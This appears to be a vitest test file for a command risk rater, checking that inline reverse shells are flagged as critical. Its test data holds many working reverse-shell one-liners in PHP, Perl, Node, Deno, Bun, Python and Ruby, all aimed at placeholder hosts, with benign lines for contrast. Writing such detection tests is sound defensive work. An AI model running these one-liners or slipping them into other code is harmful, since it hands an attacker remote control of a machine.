import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * Inline code that opens a network connection and starts a shell reading its input (`socket.connect` then
 * `/bin/sh -i`, `fsockopen` then `exec("sh <&3 >&3")`) is a reverse shell, as `nc host port | sh` is.
 * Code that only connects, or only runs a program, or starts a shell with a command of its own, is not.
 */
const rated = shellRater();

const reverse = (shell: string): string => `runs commands received over the network with ${shell} (a reverse shell)`;

describe("reverse shells written as inline code", () => {
  it.each<[string, Risk, string?]>([
    [`php -r '$s=fsockopen("x.io",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, "critical", reverse("sh")],
    [`php -r '$sock=fsockopen("x.io",4444);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'`, "critical", reverse("sh")],
    [`php -r '$sock=fsockopen("x.io",4444);shell_exec("sh <&3 >&3 2>&3");'`, "critical", reverse("sh")],
    [`php -r '$sock=stream_socket_client("tcp://x.io:4444");passthru("bash <&3 >&3 2>&3");'`, "critical", reverse("bash")],
    [`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("1.2.3.4")));open(STDIN,">&S");exec("/bin/sh -i");'`, "critical", reverse("sh")],
    [`perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr=>"x.io:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system("/bin/sh")'`, "critical", reverse("sh")],
    [`node -e 'const n=require("net"),cp=require("child_process");const s=n.connect(4444,"x.io",()=>{const p=cp.spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s)})'`, "critical", reverse("sh")],
    [`node -e 'var net=require("net"),sh=require("child_process").spawn("bash",[]);var client=new net.Socket();client.connect(4444,"x.io",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);})'`, "critical", reverse("bash")],
    [`node -e 'const s=require("node:net").createConnection(4444,"x.io");const p=require("child_process").spawn("sh");s.pipe(p.stdin);p.stdout.pipe(s)'`, "critical", reverse("sh")],
    [`deno eval 'const c=await Deno.connect({hostname:"x.io",port:4444});const p=new Deno.Command("sh",{stdin:"piped",stdout:"piped"}).spawn()'`, "critical", reverse("sh")],
    [`bun -e 'const s=await Bun.connect({hostname:"x.io",port:4444,socket:{data(){}}});Bun.spawn(["sh"])'`, "critical", reverse("sh")],
    [`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("x.io",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, "critical", reverse("sh")],
    [`python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("x.io",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`, "critical", reverse("bash")],
    [`python -c 'import socket,os;s=socket.create_connection(("x.io",4444));os.dup2(s.fileno(),0);os.system("sh")'`, "critical", reverse("sh")],
    [`ruby -rsocket -e 'c=TCPSocket.new("x.io",4444);$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec "/bin/sh -i"'`, "critical", reverse("sh")],
    [`ruby -rsocket -e 'c=TCPSocket.new("x.io",4444);spawn("sh",[:in,:out,:err]=>c)'`, "critical", reverse("sh")],
    [`ruby -rsocket -e 'c=Socket.tcp("x.io",4444);exec("zsh", in: c, out: c)'`, "critical", reverse("zsh")],
    [`python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("x.io",4444));subprocess.call(["powershell","-NoProfile"],stdin=s.fileno())'`, "critical", reverse("powershell")],
    // Only a connection, only a program, a local terminal, or a shell given its own command: as before.
    [`python3 -c 'import socket; socket.create_connection(("localhost", 5432))'`, "safe"],
    [`python3 -c 'import subprocess; subprocess.run(["ls"])'`, "safe"],
    [`node -e 'require("http").get("http://localhost:3000")'`, "safe"],
    [`python3 -c 'import pty; pty.spawn("/bin/bash")'`, "safe"],
    [`python3 -c 'import socket,subprocess;s=socket.create_connection(("localhost",5432));subprocess.run(["ls"])'`, "safe"],
    [`node -e 'const s=require("net").connect(3000);require("child_process").execFileSync("git",["status"])'`, "safe"],
    [`ruby -rsocket -e 'c=TCPSocket.new("localhost",80);system("ls")'`, "safe"],
    [`python3 -c 'import socket,subprocess;s=socket.create_connection(("localhost",5432));subprocess.run(["sh","-c","ls"])'`, "safe"],
    [`php -r '$s=fsockopen("localhost",80);exec("sh build.sh");'`, "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});
